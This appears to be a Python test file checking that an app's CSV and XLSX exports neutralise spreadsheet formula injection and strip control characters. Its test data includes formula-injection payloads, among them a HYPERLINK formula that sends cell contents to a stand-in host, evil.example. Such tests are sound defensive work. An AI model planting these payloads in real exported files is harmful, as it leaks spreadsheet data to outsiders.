"""Exports are safe to open in a spreadsheet: text that a spreadsheet would run as a formula is
text (CSV: a leading apostrophe; XLSX: a string cell), control characters never break an XLSX
file, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from app.rollups import cache as rollup_cache
from app.web.spreadsheets import csv_value, xlsx_cell
from tests.factories import (
    make_department,
    make_experiment,
    make_strategy,
    make_theme,
    make_user,
)
from tests.http.browser import sign_in

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"x")': '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=1+1": "'=1+1",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Ohjaus\x01ja\x1bneuvonta": "Ohjausjaneuvonta",
    "Tavallinen otsikko": "Tavallinen otsikko",
}


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


async def test_experiment_list_exports_neutralise_formulas_and_control_characters(client):
    owner = await make_user(name="@Omistaja")
    for title in HOSTILE:
        await make_experiment(owner, title=title, status="running")
    await sign_in(client, owner.email)

    response = await client.get("/experiments/export.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    assert sorted(row[1] for row in rows[1:]) == sorted(HOSTILE.values())
    assert {row[5] for row in rows[1:]} == {"'@Omistaja"}
    assert all(row[0].isdigit() for row in rows[1:])

    response = await client.get("/experiments/export.xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert all(cell.data_type != "f" for cell in cells)
    titles = [cell.value for cell in cells if cell.column == 2 and cell.row > 1]
    expected = [text.removeprefix("'").replace("\r", "\n") for text in HOSTILE.values()]
    assert sorted(titles) == sorted(expected)  # XML reads a carriage return as a line feed
    numbers = [cell for cell in cells if cell.column == 1 and cell.row > 1]
    assert all(isinstance(cell.value, int) and cell.data_type == "n" for cell in numbers)


async def test_rollup_exports_neutralise_names(client):
    rollup_cache.clear()
    strategy = await make_strategy(name="=1+1")
    theme = await make_theme(strategy, name_fi="@SUM(A1)\x01")
    department = await make_department(name_fi="-2+3\x1b")
    hr = await make_user(is_hr=True, department=department.id)
    await make_experiment(hr, themes=[theme], departments=[department], status="running")
    await sign_in(client, hr.email)
    query = f"strategy={strategy.id}"

    response = await client.get(f"/rollup/export.csv?{query}")
    assert response.status_code == 200
    fields = {value for row in _csv_rows(response.content) for value in row}
    assert {"'=1+1", "'@SUM(A1)", "'-2+3"} <= fields
    assert not {"=1+1", "@SUM(A1)", "-2+3"} & fields

    response = await client.get(f"/rollup/export.xlsx?{query}")
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {"=1+1", "@SUM(A1)", "-2+3"} <= texts
    assert any(isinstance(cell.value, int) and cell.value >= 1 for cell in cells)


def test_numbers_stay_numbers_and_text_is_neutralised():
    for number in (-3, 0, 7, -2.5, Decimal("-1.25"), date(2026, 1, 1)):
        assert csv_value(number) == number
    assert csv_value("-3") == "'-3"
    assert csv_value("a\x00b\x0bc") == "abc"
    assert csv_value("rivi\nrivi\tsarake") == "rivi\nrivi\tsarake"

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("a")
    values = [-3, -2.5, Decimal("-1.25"), "=1+1", "a\x01b"]
    sheet.append([xlsx_cell(sheet, value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(buffer).active.iter_rows())[0]
    assert [cell.value for cell in cells] == [-3, -2.5, -1.25, "=1+1", "ab"]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"]
